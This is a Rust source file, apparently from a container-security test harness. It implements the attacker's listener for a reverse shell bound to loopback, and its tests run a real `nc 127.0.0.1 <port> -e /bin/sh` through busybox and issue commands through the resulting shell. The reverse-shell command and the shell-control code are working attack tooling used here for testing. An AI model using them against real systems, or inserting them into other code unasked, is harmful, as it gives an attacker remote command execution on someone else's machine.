//! The attacker's end of a reverse shell: a TCP listener on the host's loopback that a container
//! in a host-network pod connects back to (`nc 127.0.0.1 <port> -e /bin/sh`). Only loopback is
//! ever used.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::{anyhow, bail, Context, Result};

/// A listener on 127.0.0.1 (ephemeral port) that accepts one connection.
pub struct ReverseShellListener {
    listener: TcpListener,
    addr: SocketAddr,
    stream: Option<TcpStream>,
    /// Output received but not yet returned to the caller.
    pending: Vec<u8>,
    closed: bool,
}

impl ReverseShellListener {
    pub fn new() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").context("binding 127.0.0.1:0")?;
        let addr = listener.local_addr().context("listener address")?;
        listener
            .set_nonblocking(true)
            .context("making the listener non-blocking")?;
        Ok(ReverseShellListener {
            listener,
            addr,
            stream: None,
            pending: Vec::new(),
            closed: false,
        })
    }

    pub fn port(&self) -> u16 {
        self.addr.port()
    }

    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// The command a container runs to connect back: `nc 127.0.0.1 <port> -e /bin/sh`.
    pub fn nc_command(&self) -> Vec<String> {
        ["nc", "127.0.0.1", &self.port().to_string(), "-e", "/bin/sh"]
            .iter()
            .map(|s| s.to_string())
            .collect()
    }

    /// Waits up to `timeout` for the shell to connect; returns the peer address.
    pub fn accept(&mut self, timeout: Duration) -> Result<SocketAddr> {
        let deadline = Instant::now() + timeout;
        loop {
            match self.listener.accept() {
                Ok((stream, peer)) => {
                    stream
                        .set_nonblocking(false)
                        .context("making the connection blocking")?;
                    self.stream = Some(stream);
                    return Ok(peer);
                }
                Err(e) if e.kind() == ErrorKind::WouldBlock => {
                    if Instant::now() >= deadline {
                        bail!(
                            "no reverse shell connected to {} within {timeout:?}",
                            self.addr
                        );
                    }
                    std::thread::sleep(Duration::from_millis(10));
                }
                Err(e) => return Err(e).context("accepting the reverse shell"),
            }
        }
    }

    /// True once a connection was accepted.
    pub fn is_connected(&self) -> bool {
        self.stream.is_some()
    }

    /// Sends `line` plus a newline to the shell.
    pub fn send(&mut self, line: &str) -> Result<()> {
        let stream = self.stream_mut()?;
        stream
            .write_all(format!("{line}\n").as_bytes())
            .context("writing to the reverse shell")
    }

    /// Runs `command` in the shell and returns its output (stdout; stderr too if the command
    /// redirects it), using an end marker to know when it is done.
    pub fn run(&mut self, command: &str, timeout: Duration) -> Result<String> {
        static MARKER: AtomicU64 = AtomicU64::new(0);
        let marker = format!("__rg_done_{}__", MARKER.fetch_add(1, Ordering::Relaxed));
        self.send(&format!("{command}; echo {marker}"))?;
        let output = self.read_until(&format!("{marker}\n"), timeout)?;
        Ok(output
            .strip_suffix(&format!("{marker}\n"))
            .unwrap_or(&output)
            .to_string())
    }

    /// Reads until the received text contains `pattern`; returns everything up to and
    /// including it (the rest stays for the next read).
    pub fn read_until(&mut self, pattern: &str, timeout: Duration) -> Result<String> {
        let deadline = Instant::now() + timeout;
        loop {
            if let Some(pos) = find(&self.pending, pattern.as_bytes()) {
                let rest = self.pending.split_off(pos + pattern.len());
                let found = std::mem::replace(&mut self.pending, rest);
                return Ok(String::from_utf8_lossy(&found).into_owned());
            }
            if self.closed {
                bail!(
                    "reverse shell closed before {pattern:?}; got {:?}",
                    String::from_utf8_lossy(&self.pending)
                );
            }
            let now = Instant::now();
            if now >= deadline {
                bail!(
                    "no {pattern:?} from the reverse shell within {timeout:?}; got {:?}",
                    String::from_utf8_lossy(&self.pending)
                );
            }
            self.fill(deadline - now)?;
        }
    }

    /// Reads whatever arrives within `timeout`.
    pub fn read_available(&mut self, timeout: Duration) -> Result<String> {
        let deadline = Instant::now() + timeout;
        while !self.closed {
            let now = Instant::now();
            if now >= deadline {
                break;
            }
            self.fill(deadline - now)?;
        }
        Ok(String::from_utf8_lossy(&std::mem::take(&mut self.pending)).into_owned())
    }

    /// Waits up to `timeout` for the peer to close the connection (for example because the
    /// shell was killed). True if it closed.
    pub fn wait_closed(&mut self, timeout: Duration) -> Result<bool> {
        let deadline = Instant::now() + timeout;
        while !self.closed {
            let now = Instant::now();
            if now >= deadline {
                return Ok(false);
            }
            self.fill(deadline - now)?;
        }
        Ok(true)
    }

    /// One read with a timeout; EOF and connection resets mark the connection closed.
    fn fill(&mut self, timeout: Duration) -> Result<()> {
        let wait = timeout.clamp(Duration::from_millis(1), Duration::from_millis(200));
        let stream = self.stream_mut()?;
        stream
            .set_read_timeout(Some(wait))
            .context("setting the read timeout")?;
        let mut buf = [0u8; 4096];
        match stream.read(&mut buf) {
            Ok(0) => self.closed = true,
            Ok(n) => self.pending.extend_from_slice(&buf[..n]),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) if matches!(e.kind(), ErrorKind::ConnectionReset | ErrorKind::BrokenPipe) => {
                self.closed = true
            }
            Err(e) => return Err(e).context("reading from the reverse shell"),
        }
        Ok(())
    }

    fn stream_mut(&mut self) -> Result<&mut TcpStream> {
        self.stream
            .as_mut()
            .ok_or_else(|| anyhow!("no reverse shell connected yet (call accept first)"))
    }
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() {
        return Some(0);
    }
    haystack.windows(needle.len()).position(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::process::{Command, Stdio};

    /// A real `sh` behind a real `nc -e` on loopback, as a container would run it.
    #[test]
    fn talks_to_a_real_shell_over_loopback() {
        let mut listener = ReverseShellListener::new().unwrap();
        let mut nc = Command::new("busybox")
            .args(listener.nc_command())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("busybox-static is installed by hack/setup.sh");
        listener.accept(Duration::from_secs(5)).unwrap();
        let out = listener
            .run("echo hello; echo $((6*7))", Duration::from_secs(5))
            .unwrap();
        assert_eq!(out, "hello\n42\n");
        listener.send("exit").unwrap();
        assert!(listener.wait_closed(Duration::from_secs(5)).unwrap());
        let _ = nc.wait();
    }

    #[test]
    fn accept_times_out_without_a_peer() {
        let mut listener = ReverseShellListener::new().unwrap();
        let err = listener.accept(Duration::from_millis(50)).unwrap_err();
        assert!(
            err.to_string().contains("no reverse shell connected"),
            "{err}"
        );
        assert!(listener.send("id").is_err());
    }
}
